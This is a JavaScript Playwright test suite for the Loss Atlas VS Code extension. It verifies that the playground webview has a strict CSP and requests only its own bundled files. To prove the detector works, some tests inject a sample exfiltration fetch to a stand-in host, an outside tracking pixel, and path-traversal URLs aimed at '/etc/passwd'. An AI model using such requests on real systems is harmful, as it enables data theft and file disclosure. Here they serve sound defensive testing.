// Hardening: the playground webview makes no request that leaves the
// extension's own resources (issue 7), under a strict CSP (issue 5).
//
// How the traffic is recorded. Webviews in code-server are nested iframes
// (`…/webview/browser/pre/index.html` hosting `…/pre/fake.html`, where our HTML
// is written) whose resource loads (`https://<authority>.vscode-resource.vscode-cdn.net/…`)
// are answered by the webview's own service worker. Playwright's
// `context.route()` does not see requests a service worker answers (and would
// need `serviceWorkers: 'block'`, which breaks webviews), so the recorder
// listens instead: `context.on('request' | 'requestfailed')` (every frame of
// every page, the frames' dedicated workers — attributed to the frame that made
// them — and service workers' own fetches), `page.on('websocket')`, and, as a
// second independent witness, the webview documents' own Resource Timing
// entries (`performance.getEntriesByType('resource')`). The first test checks
// that the recorder really sees the webview's own loads (dist/webview.js, the
// KaTeX CSS and fonts, uPlot's CSS, the compute worker's blob), otherwise the
// check would prove nothing; the last test injects outside requests from inside
// the webview and checks that the detector flags every one of them.
import { strict as assert } from 'node:assert';
import { readdirSync } from 'node:fs';
import { join } from 'node:path';
import { after, before, describe, it } from 'mocha';
import { sleep, startVSCode } from '../lib.mjs';

/** The webview host's own static files: `/<quality>-<commit>/static/out/vs/workbench/contrib/webview/browser/pre/<file>`. */
const WEBVIEW_PRE = /^\/[^/]+\/static\/out\/vs\/workbench\/contrib\/webview\/browser\/pre\/([^/]+)$/;
/** The only bootstrap files a webview loads: its host page, its service worker, and the inner frame's placeholder. */
const WEBVIEW_BOOTSTRAP = new Set(['index.html', 'service-worker.js', 'fake.html']);
/** Folders of the extension the webview may load (`localResourceRoots` in panel.ts). */
const OWN_FOLDERS = ['dist', 'media'];

/** `vscode-remote+127-002e0-002e0-002e1-003a37435` -> `vscode-remote+127.0.0.1:37435` (VS Code's authority encoding). */
function decodeResourceAuthority(label) {
  return label.replace(/-([0-9a-f]{4})/g, (_, hex) => String.fromCharCode(parseInt(hex, 16)));
}

/**
 * The allow-list, precisely. A URL requested by the webview is allowed when it is
 *  1. the webview host's bootstrap: on code-server's own origin (http://127.0.0.1:<port>),
 *     path `/<version>/static/out/vs/workbench/contrib/webview/browser/pre/` +
 *     `index.html` | `service-worker.js` | `fake.html` (any query);
 *  2. one of our extension's own files through the webview resource scheme:
 *     `https://vscode-remote+<encoded 127.0.0.1:<port>>.vscode-resource.vscode-cdn.net`
 *     (the host VS Code's `asWebviewUri` gives for this code-server; its service
 *     worker answers it from the extension's folder, it never reaches the network)
 *     + `<extensions dir>/loss-atlas.loss-atlas-<version>/(dist|media)/…`, no `..`;
 *  3. `blob:` on the webview frame's own origin (the compute worker, started from
 *     a blob of our bundled code: in memory, no network), or a `data:` image
 *     (vscode-textarea's resize grip; CSP `img-src data:`): neither leaves the page.
 * Everything else — another host (a CDN, fonts.googleapis.com, any
 * `*.vscode-cdn.net` the CSP's `cspSource` would also admit), our resource host
 * with a path outside dist/ and media/, another extension, code-server's
 * `vscode-remote-resource` endpoint — is a violation.
 * @returns {string|null} why the URL is not allowed, or null when it is
 */
export function disallowed(url, { origin, extensionDir, resourceType }) {
  let u;
  try { u = new URL(url); } catch { return 'not a URL'; }
  if (u.protocol === 'blob:') return url.startsWith(`blob:${origin}/`) ? null : 'blob: of another origin';
  if (u.protocol === 'data:') return resourceType === 'image' ? null : `data: as ${resourceType}`;
  if (u.origin === origin) {
    const m = WEBVIEW_PRE.exec(u.pathname);
    return m && WEBVIEW_BOOTSTRAP.has(m[1]) ? null : 'code-server path that is not the webview bootstrap';
  }
  const host = /^(vscode-remote\+[a-z0-9-]+)\.vscode-resource\.vscode-cdn\.net$/.exec(u.hostname);
  if (u.protocol !== 'https:' || !host || u.port !== '') return 'another host';
  if (decodeResourceAuthority(host[1]) !== `vscode-remote+${new URL(origin).host}`) return 'resource of another remote';
  const path = decodeURIComponent(u.pathname);
  if (path.split('/').includes('..')) return 'path with ..';
  const own = OWN_FOLDERS.some((f) => path.startsWith(`${extensionDir}/${f}/`));
  return own ? null : 'resource outside the extension\'s dist/ and media/';
}

const isWebviewUrl = (url) => { try { return WEBVIEW_PRE.test(new URL(url).pathname); } catch { return false; } };

/**
 * Records every request of a browser context with who made it:
 * 'webview' (a webview frame or anything inside one, the webview's service
 * worker, or a request whose maker cannot be told: counted as webview, to be
 * safe), or 'workbench' (the workbench page and its own frames/workers).
 */
function recordNetwork(page) {
  const context = page.context();
  /** @type {{url:string, type:string, by:'webview'|'workbench', frame:string, failed?:string}[]} */
  const log = [];
  const sockets = [];
  const classify = (req) => {
    const sw = req.serviceWorker();
    if (sw) return { by: isWebviewUrl(sw.url()) ? 'webview' : 'workbench', frame: `service worker ${sw.url()}` };
    let frame;
    try { frame = req.frame(); } catch { return { by: 'webview', frame: '(unknown)' }; }
    // a frame's navigation: judged by the frame it loads into (its URL may still be about:blank)
    if (isWebviewUrl(req.url()) && req.isNavigationRequest()) return { by: 'webview', frame: frame.url() };
    for (let f = frame; f; f = f.parentFrame()) if (isWebviewUrl(f.url())) return { by: 'webview', frame: frame.url() };
    return { by: 'workbench', frame: frame.url() };
  };
  context.on('request', (req) => log.push({ url: req.url(), type: req.resourceType(), ...classify(req) }));
  context.on('requestfailed', (req) => {
    const entry = log.findLast((e) => e.url === req.url());
    if (entry) entry.failed = req.failure()?.errorText ?? 'failed';
  });
  page.on('websocket', (ws) => sockets.push(ws.url()));
  return { log, sockets };
}

/** The violations among recorded requests (and blocked attempts), each with its URL and reason. */
function violations(entries, env) {
  return entries
    .map((e) => ({ ...e, reason: disallowed(e.url, { ...env, resourceType: e.type }) }))
    .filter((e) => e.reason);
}

const listing = (bad) => bad.map((e) => `  ${e.url}  (${e.reason}; ${e.type} by ${e.frame}${e.failed ? `; ${e.failed}` : ''})`).join('\n');

describe('playground network (UI): no request leaves the extension\'s own resources', function () {
  this.timeout(240_000);
  /** @type {import('../lib.mjs').Workbench} */
  let vsc;
  /** @type {import('playwright-core').Frame} */
  let frame;
  let rec;
  let env;

  const settled = async () => {
    await frame.waitForFunction(() => {
      const v = document.getElementById('la-value');
      return v && v.textContent !== '…';
    }, undefined, { timeout: 20_000 });
    await sleep(100);
  };
  const pick = async (id, { settle = true } = {}) => {
    await frame.locator('.la-search').fill('');
    await frame.locator(`#la-loss-list [data-id="${id}"]`).click();
    await frame.waitForFunction((i) => document.querySelector('#la-loss-list [aria-selected="true"]')?.getAttribute('data-id') === i, id);
    if (settle) await settled();
  };
  /** The webview documents' own Resource Timing entries (inner frame and its host frame). */
  const perfEntries = async () => {
    const out = [];
    for (const f of vsc.page.frames()) {
      if (!isWebviewUrl(f.url())) continue;
      const entries = await f.evaluate(() => performance.getEntriesByType('resource').map((e) => ({ url: e.name, type: e.initiatorType })))
        .catch(() => []);
      out.push(...entries.map((e) => ({ ...e, frame: `${f.url().split('?')[0]} (resource timing)` })));
    }
    return out;
  };

  before(async function () {
    vsc = await startVSCode({ theme: 'dark', viewport: { width: 1500, height: 1000 } });
    rec = recordNetwork(vsc.page);
    const ext = readdirSync(vsc.server.extensionsDir).find((d) => d.startsWith('loss-atlas.loss-atlas-'));
    assert.ok(ext, `Loss Atlas is not installed in ${vsc.server.extensionsDir}`);
    env = { origin: new URL(vsc.server.url).origin, extensionDir: join(vsc.server.extensionsDir, ext) };
    await vsc.openFile('classification.py');
    await vsc.runCommand('View: Close All Editors');
  });
  after(async function () {
    await vsc?.stop();
  });

  it('serves a strict CSP: default-src \'none\', scripts only by nonce, no connect-src', async function () {
    await vsc.runCommand('Loss Atlas: Open Playground');
    frame = await vsc.webviewFrame({ selector: '#la-value', timeout: 60_000 });
    await settled();
    const { csp, scripts, inlineHandlers } = await frame.evaluate(() => ({
      csp: [...document.querySelectorAll('meta[http-equiv="Content-Security-Policy" i]')].map((m) => m.getAttribute('content')),
      scripts: [...document.scripts].map((s) => ({ id: s.id, src: s.src, nonce: s.nonce || s.getAttribute('nonce') || '' })),
      inlineHandlers: [...document.querySelectorAll('*')].flatMap((el) => [...el.attributes].filter((a) => /^on/i.test(a.name)).map((a) => `${el.tagName}@${a.name}`)),
    }));
    assert.equal(csp.length, 1, `one CSP meta tag, found ${csp.length}`);
    const directives = new Map(csp[0].split(';').map((d) => d.trim()).filter(Boolean).map((d) => {
      const [name, ...values] = d.split(/\s+/);
      return [name.toLowerCase(), values];
    }));
    assert.deepEqual(directives.get('default-src'), ["'none'"], csp[0]);
    const scriptSrc = directives.get('script-src');
    assert.ok(scriptSrc?.length === 1 && /^'nonce-[A-Za-z0-9+/=_-]{16,}'$/.test(scriptSrc[0]), `script-src must be a nonce only: ${csp[0]}`);
    for (const d of ['script-src-elem', 'script-src-attr', 'connect-src', 'frame-src', 'child-src', 'object-src', 'manifest-src', 'media-src']) {
      assert.ok(!directives.has(d), `${d} must fall back to default-src 'none': ${csp[0]}`);
    }
    assert.ok(!/unsafe-inline|unsafe-eval|\*(?!\.)|https?:(?!\/\/)/.test(csp[0].replace(/https:\/\/\*\.vscode-cdn\.net/g, '')), `no wildcard or unsafe source: ${csp[0]}`);
    // every script carries that nonce and comes from our dist/, except VS Code's own
    // `acquireVsCodeApi` script, which the webview host (pre/index.html) prepends to
    // <head> before our CSP meta tag: inline, no src, and not ours
    const nonce = scriptSrc[0].slice(7, -1);
    const ours = scripts.filter((s) => !(s.id === '_vscodeApiScript' && !s.src));
    assert.equal(scripts.length - ours.length, 1, `VS Code's API script: ${JSON.stringify(scripts)}`);
    assert.ok(ours.length >= 1);
    for (const s of ours) {
      assert.equal(s.nonce, nonce, `script without the nonce: ${s.src || '(inline)'}`);
      assert.equal(disallowed(s.src, { ...env, resourceType: 'script' }), null, `script not from our files: ${s.src}`);
    }
    assert.deepEqual(inlineHandlers, [], 'inline event handlers');
  });

  it('records the webview\'s own loads (bundle, KaTeX CSS and fonts, uPlot CSS, worker) through its service worker', async function () {
    const mine = rec.log.filter((e) => e.by === 'webview');
    const saw = (re, what) => assert.ok(mine.some((e) => re.test(e.url)), `the recorder did not see ${what}; it saw:\n${mine.map((e) => `  ${e.url}`).join('\n')}`);
    saw(/\/pre\/index\.html\?/, 'the webview host page');
    saw(/\/pre\/service-worker\.js\?/, 'the webview service worker');
    saw(/\/pre\/fake\.html\?/, 'the inner frame');
    saw(/\.vscode-resource\.vscode-cdn\.net\/.*\/dist\/webview\.js$/, 'dist/webview.js');
    saw(/\/dist\/katex\/katex\.min\.css$/, 'KaTeX CSS');
    saw(/\/dist\/katex\/fonts\/KaTeX_[A-Za-z0-9-]+\.woff2$/, 'a KaTeX font');
    saw(/\/dist\/uPlot\.min\.css$/, 'uPlot CSS');
    saw(/\/media\/playground\.css$/, 'media/playground.css');
    saw(/^blob:/, 'the compute worker (blob)');
    assert.equal(await frame.evaluate(() => document.getElementById('app')?.dataset.computeMode), 'worker', 'the compute worker did not start');
  });

  it('exercises the whole playground without one request outside its own files', async function () {
    // switch losses, type inputs, parameters, presets (uPlot overlays), generators
    await pick('mse-loss');
    await frame.locator('[data-input="input"] textarea').fill('[1, 2, 3, 4]');
    await frame.locator('[data-input="target"] textarea').fill('[1, 0, 3, 10]');
    await frame.waitForFunction(() => document.getElementById('la-value')?.dataset.value === '10', undefined, { timeout: 20_000 });
    await pick('huber-loss');
    await frame.locator('#la-p-delta input').fill('1.5');
    await frame.waitForFunction(() => /delta=1\.5/.test(document.getElementById('la-code')?.textContent ?? ''));
    await frame.locator('#la-preset-robust').click();
    await frame.locator('#la-compare-values tbody tr').nth(1).waitFor({ timeout: 15_000 });
    await pick('cross-entropy');
    await frame.locator('vscode-button[data-generator="logits-index"]').click();
    await settled();
    await frame.locator('.la-search').fill('focal');
    await pick('sigmoid-focal-loss', { settle: false });
    await sleep(500);
    // big input: the compute worker does the work
    await pick('mse-loss');
    await frame.evaluate(() => {
      const set = (name, v) => {
        const el = document.querySelector(`[data-input="${name}"]`);
        el.value = v;
        el.dispatchEvent(new window.Event('input', { bubbles: true }));
      };
      set('target', Array.from({ length: 10_000 }, (_, i) => Math.cos(i).toFixed(3)).join(', '));
      set('input', Array.from({ length: 10_000 }, (_, i) => Math.sin(i).toFixed(3)).join(', '));
    });
    await frame.waitForFunction(() => document.querySelectorAll('#la-elements tbody tr').length === 50, undefined, { timeout: 20_000 });
    // the Reference (formula, paper links: must stay links, never fetched) and the guide
    await pick('huber-loss');
    await frame.locator('vscode-tab-header[data-view="reference"]').click();
    await frame.locator('#la-reference').waitFor();
    await frame.locator('vscode-tab-header[data-view="guide"]').click();
    await frame.locator('#la-guide-outliers').click();
    await frame.locator('#la-guide-results .la-suggestion').first().waitFor();
    await frame.locator('vscode-tab-header[data-view="playground"]').click();
    await frame.locator('#la-value').waitFor();
    // the other display language (CJK text, other fonts) and back
    const lang = frame.locator('#la-lang');
    await lang.click();
    await lang.locator('li[role="option"]', { hasText: '简体中文' }).click();
    await frame.waitForFunction(() => document.documentElement.lang === 'zh-CN');
    await frame.locator('vscode-tab-header[data-view="reference"]').click();
    await frame.locator('#la-reference').waitFor();
    await frame.locator('vscode-tab-header[data-view="playground"]').click();
    await lang.click();
    await lang.locator('li[role="option"]', { hasText: 'English' }).click();
    await frame.waitForFunction(() => document.documentElement.lang === 'en');
    // the other theme: the page restyles itself
    await vsc.setTheme('light');
    frame = await vsc.webviewFrame({ selector: '#la-value', timeout: 60_000 });
    await settled();
    await sleep(1000); // late font and image loads
    await vsc.screenshot('network-playground-light');

    const fromWebview = rec.log.filter((e) => e.by === 'webview');
    const timing = await perfEntries();
    const bad = [...violations(fromWebview, env), ...violations(timing, env)];
    assert.deepEqual(bad.map((e) => e.url), [], `the webview requested URLs outside its own resources:\n${listing(bad)}`);
    // the second witness agrees with the recorder: every load the documents list was recorded
    const recorded = new Set(rec.log.map((e) => e.url));
    const missed = timing.filter((e) => !recorded.has(e.url));
    assert.deepEqual(missed.map((e) => e.url), [], 'loads the recorder missed');
    // the page's own securitypolicyviolation listener saw nothing blocked
    const csp = await frame.evaluate(() => ({ n: document.getElementById('app')?.dataset.cspViolations ?? '0', log: document.getElementById('app')?.dataset.cspLog }));
    assert.equal(csp.n, '0', `CSP violations: ${csp.log}`);
    // the whole browser: no WebSocket but code-server's own, and nothing (webview or workbench) outside 127.0.0.1
    assert.deepEqual(rec.sockets.filter((u) => new URL(u).host !== new URL(env.origin).host), [], 'WebSockets to another host');
    const outside = rec.log.filter((e) => /^(https?|wss?):/.test(e.url) && new URL(e.url).origin !== env.origin && !/\.vscode-resource\.vscode-cdn\.net$/.test(new URL(e.url).hostname));
    assert.deepEqual(outside.map((e) => e.url), [], 'requests to outside hosts');

    const own = [...new Set(fromWebview.map((e) => e.url))];
    console.log(`      recorded ${rec.log.length} requests, ${fromWebview.length} from the webview (${own.length} distinct), ${timing.length} resource-timing entries; all allowed. Sample:`);
    const short = (u) => u.replace(/^https:\/\/[^/]+\.vscode-resource\.vscode-cdn\.net/, '<resource host>').replace(env.extensionDir, '<extension>')
      .replace(/\/[^/]+\/static\/out\/vs\/workbench\/contrib\/webview\/browser\/pre\//, '/…/webview/browser/pre/').replace(/\?.*/, '?…');
    for (const u of own) console.log(`        ${short(u)}`);
  });

  /**
   * The rebuilt playground's frame, which must come back on its Playground tab (the tab it was left on).
   * It once came back on the Reference tab in some runs: a click meant for a Quick Open row fell through
   * to the page's Reference tab header (traced on 7 December; lib.mjs now picks rows by keyboard).
   */
  async function playgroundTab(when) {
    const started = await vsc.webviewFrame({ selector: '#app[data-compute-mode]', timeout: 60_000 });
    const tab = await started.evaluate(() => document.querySelector('vscode-tabs')?.selectedIndex);
    assert.equal(tab, 0, `${when}, the playground came back on tab ${tab}, not on the Playground tab it was left on`);
    return vsc.webviewFrame({ selector: '#la-value', timeout: 30_000 });
  }

  it('hidden and shown again, and after a window reload, the new webview still loads only its own files', async function () {
    const loads = () => rec.log.filter((e) => /\/dist\/webview\.js$/.test(e.url)).length;
    const before = loads();
    // without retainContextWhenHidden a hidden webview is destroyed and rebuilt when shown
    await vsc.openFile('classification.py');
    await vsc.page.locator('.tabs-container .tab').filter({ hasText: 'Loss Atlas Playground' }).first().click();
    frame = await playgroundTab('after it was hidden and shown again');
    await settled();
    await vsc.reloadWindow();
    frame = await playgroundTab('after the reload');
    await settled();
    await frame.locator('#la-formula .katex').waitFor();
    await sleep(1000);
    assert.ok(loads() >= before + 2, `the rebuilt webviews' loads were not recorded (${before} -> ${loads()})`);
    const bad = [...violations(rec.log.filter((e) => e.by === 'webview'), env), ...violations(await perfEntries(), env)];
    assert.deepEqual(bad.map((e) => e.url), [], `the webview requested URLs outside its own resources:\n${listing(bad)}`);
    assert.equal(await frame.evaluate(() => document.getElementById('app')?.dataset.cspViolations ?? '0'), '0');
  });

  it('the detector works: outside requests injected from inside the webview are flagged', async function () {
    const start = rec.log.length;
    const resourceHost = new URL(rec.log.find((e) => /\/dist\/webview\.js$/.test(e.url)).url).origin;
    const injected = {
      fetch: 'https://example.invalid/exfiltrate?data=secret', // connect-src: blocked by the CSP
      font: 'https://fonts.googleapis.com/css2?family=Roboto', // style-src: blocked by the CSP
      image: 'https://evil.vscode-cdn.net/pixel.png', // admitted by the CSP's *.vscode-cdn.net: goes out
      otherFile: `${resourceHost}/etc/hostname`, // our resource host, outside dist/ and media/
    };
    const seenInPage = await frame.evaluate(async (urls) => {
      const blocked = [];
      const onViolation = (e) => blocked.push({ url: e.blockedURI, directive: e.violatedDirective });
      document.addEventListener('securitypolicyviolation', onViolation);
      await fetch(urls.fetch).catch(() => {});
      const link = document.createElement('link');
      link.rel = 'stylesheet';
      link.href = urls.font;
      document.head.append(link);
      const loads = [urls.image, urls.otherFile].map((src) => new Promise((res) => {
        const img = new window.Image();
        img.onload = img.onerror = () => { img.remove(); res(); };
        img.src = src;
        document.body.append(img);
      }));
      await Promise.all(loads);
      await new Promise((r) => setTimeout(r, 500));
      link.remove();
      document.removeEventListener('securitypolicyviolation', onViolation);
      return blocked;
    }, injected);
    await sleep(500);
    // the CSP blocked the fetch and the stylesheet (the browser never sent them)…
    const blockedUrls = seenInPage.map((b) => b.url);
    assert.ok(blockedUrls.some((u) => u.startsWith('https://example.invalid/')), `no CSP violation for the fetch: ${JSON.stringify(seenInPage)}`);
    assert.ok(blockedUrls.some((u) => u.startsWith('https://fonts.googleapis.com/')), `no CSP violation for the stylesheet: ${JSON.stringify(seenInPage)}`);
    // … the page's own listener counted them (what the exercise test asserts to be 0) …
    assert.ok(Number(await frame.evaluate(() => document.getElementById('app')?.dataset.cspViolations ?? '0')) >= 2, 'the page did not count the CSP violations');
    // … and the recorder saw the two the CSP let through, attributed to the webview
    const after = rec.log.slice(start).filter((e) => e.by === 'webview');
    for (const u of [injected.image, injected.otherFile]) assert.ok(after.some((e) => e.url === u), `the recorder missed ${u}; saw ${JSON.stringify(after.map((e) => e.url))}`);
    // the same check as above flags every one of them, with its URL
    const attempts = [...after, ...seenInPage.map((b) => ({ url: b.url, type: 'csp-blocked', frame: `CSP ${b.directive}` }))];
    const bad = violations(attempts, env);
    const flagged = new Set(bad.map((e) => e.url));
    for (const u of Object.values(injected)) assert.ok(flagged.has(u), `not flagged: ${u}\n${listing(bad)}`);
    console.log(`      flagged:\n${listing(bad)}`);
    // while our own files stay allowed
    for (const u of rec.log.filter((e) => /\/dist\/webview\.js$|\/media\/playground\.css$/.test(e.url))) assert.equal(disallowed(u.url, { ...env, resourceType: u.type }), null, u.url);
  });

  it('the allow-list is exact: near misses of our own URLs are flagged', function () {
    const own = rec.log.find((e) => /\/dist\/webview\.js$/.test(e.url)).url;
    const res = new URL(own).origin;
    const ext = env.extensionDir;
    const port = new URL(env.origin).port;
    const check = (url, type = 'script') => disallowed(url, { ...env, resourceType: type });
    for (const ok of [own, `${res}${ext}/media/playground.css`, `${res}${ext}/dist/katex/fonts/KaTeX_Main-Regular.woff2`, `blob:${env.origin}/0b6c`, ['data:image/png;base64,AAAA', 'image']]) {
      const [url, type] = Array.isArray(ok) ? ok : [ok];
      assert.equal(check(url, type), null, url);
    }
    const near = {
      [`${res}${ext}-evil/dist/x.js`]: 'outside',
      [`${res}${ext}/src/extension/extension.ts`]: 'outside',
      [`${res}${ext}/package.json`]: 'outside',
      [`${res}${ext}/dist/../../../etc/passwd`]: 'outside',
      [`${res}${ext}/dist/%2e%2e/%2e%2e/x`]: 'outside',
      [`${res}${ext}/dist/%2E%2E%2F%2E%2E%2Fx`]: '..',
      [`${res.replace(`003a${port}`, '003a1')}${ext}/dist/webview.js`]: 'another remote',
      [`${res.replace('https:', 'http:')}${ext}/dist/webview.js`]: 'another host',
      [`${res}:8443${ext}/dist/webview.js`]: 'another host',
      [`https://evil.vscode-resource.vscode-cdn.net${ext}/dist/webview.js`]: 'another host',
      [`https://cdn.jsdelivr.net/npm/katex/dist/katex.min.css`]: 'another host',
      [`${env.origin}/stable-0/vscode-remote-resource?path=${encodeURIComponent(`${ext}/dist/webview.js`)}`]: 'code-server path',
      [`${env.origin}/stable-0/static/out/vs/workbench/contrib/webview/browser/pre/index-no-csp.html`]: 'code-server path',
      [`http://127.0.0.2:${port}/stable-0/static/out/vs/workbench/contrib/webview/browser/pre/index.html`]: 'another host',
      'blob:https://evil.example/0b6c': 'blob',
      'data:text/css,body{background:url(https://x.invalid)}': 'data:',
    };
    for (const [url, why] of Object.entries(near)) {
      const reason = check(url, url.startsWith('data:') ? 'stylesheet' : 'script');
      assert.ok(reason?.includes(why), `${url}: expected "${why}", got ${reason}`);
    }
  });
});
